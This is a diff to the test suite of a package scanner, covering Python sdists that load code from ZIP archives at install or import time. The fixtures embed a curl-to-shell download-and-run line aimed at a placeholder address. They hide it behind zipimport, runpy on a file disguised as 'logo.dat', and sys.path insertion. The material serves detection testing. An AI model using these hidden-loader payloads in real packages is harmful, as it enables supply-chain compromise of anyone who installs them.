@@ -13,9 +13,10 @@ import { zipArchive } from '../../unpack/zip-builder.js';
 // addresses, nothing here is ever run.
 const STAGE = `import os\nos.system("curl -s http://203.0.113.7/i.sh | sh")\n`;
 const PKG_INFO = 'Metadata-Version: 2.1\nName: zipdemo\nVersion: 1.0\n';
+const PLAIN_SETUP = 'from setuptools import setup\nsetup(name="zipdemo", version="1.0", packages=["zipdemo"])\n';
 
 async function inspectSdist(files: Record<string, string | Buffer>) {
-  const tar = tarArchive(Object.entries(files).map(([name, body]) => ({ name: `zipdemo-1.0/${name}`, body })));
+  const tar = tarArchive(Object.entries({ 'PKG-INFO': PKG_INFO, ...files }).map(([name, body]) => ({ name: `zipdemo-1.0/${name}`, body })));
   const bytes = new Uint8Array(gzipSync(tar));
   const inspection = await inspectArtifact(await testEngine(), { bytes, filename: 'zipdemo-1.0.tar.gz', ecosystem: 'pypi' }, DEFAULT_POLICY, '2026-11-30');
   return { decision: inspection.verdict.decision, findings: inspection.verdict.findings };
@@ -29,8 +30,7 @@ describe('Python inside ZIP archives the package loads', () => {
 
   it('analyses an honestly named archive put on sys.path at import time, and its modules run then', async () => {
     const r = await inspectSdist({
-      'PKG-INFO': PKG_INFO,
-      'setup.py': 'from setuptools import setup\nsetup(name="zipdemo", version="1.0", packages=["zipdemo"])\n',
+      'setup.py': PLAIN_SETUP,
       'zipdemo/__init__.py': 'import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), "vendor.zip"))\nimport helper\n',
       'zipdemo/vendor.zip': zipArchive([{ name: 'helper/__init__.py', data: 'from .core import start\nstart()\n' }, { name: 'helper/core.py', data: `import os\n\ndef start():\n    ${STAGE.split('\n')[1]}\n` }]),
     });
@@ -46,7 +46,6 @@ describe('Python inside ZIP archives the package loads', () => {
 
   it('runs the modules of an archive setup.py loads with zipimport at install time', async () => {
     const r = await inspectSdist({
-      'PKG-INFO': PKG_INFO,
       'setup.py': 'import zipimport\nfrom setuptools import setup\nzipimport.zipimporter("build/tools.egg").load_module("prep")\nsetup(name="zipdemo", version="1.0")\n',
       'build/tools.egg': zipArchive([{ name: 'prep.py', data: STAGE }]),
     });
@@ -58,7 +57,6 @@ describe('Python inside ZIP archives the package loads', () => {
 
   it('runs the __main__.py of an archive runpy.run_path runs, whatever the archive is called', async () => {
     const r = await inspectSdist({
-      'PKG-INFO': PKG_INFO,
       'setup.py': 'import runpy\nfrom setuptools import setup\nrunpy.run_path("assets/logo.dat")\nsetup(name="zipdemo", version="1.0")\n',
       'assets/logo.dat': zipArchive([{ name: '__main__.py', data: STAGE }]),
     });
@@ -69,8 +67,7 @@ describe('Python inside ZIP archives the package loads', () => {
 
   it('leaves archives nothing loads alone, and passes a vendored library of definitions', async () => {
     const r = await inspectSdist({
-      'PKG-INFO': PKG_INFO,
-      'setup.py': 'from setuptools import setup\nsetup(name="zipdemo", version="1.0", packages=["zipdemo"])\n',
+      'setup.py': PLAIN_SETUP,
       'zipdemo/__init__.py': 'import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), "_vendor.zip"))\nimport tinylib\n',
       'zipdemo/_vendor.zip': zipArchive([{ name: 'tinylib/__init__.py', data: 'def add(a, b):\n    return a + b\n' }]),
       // Test data of a scanner: never loaded, so never analysed as the package's code.
@@ -92,8 +89,7 @@ describe('Python inside ZIP archives the package loads', () => {
   it('says so when a loaded archive cannot be read in full', async () => {
     const broken = zipArchive([{ name: 'helper.py', data: STAGE }]).subarray(0, 60);
     const r = await inspectSdist({
-      'PKG-INFO': PKG_INFO,
-      'setup.py': 'from setuptools import setup\nsetup(name="zipdemo", version="1.0", packages=["zipdemo"])\n',
+      'setup.py': PLAIN_SETUP,
       'zipdemo/__init__.py': 'import sys\nsys.path.append("zipdemo/deps.zip")\n',
       'zipdemo/deps.zip': broken,
     });
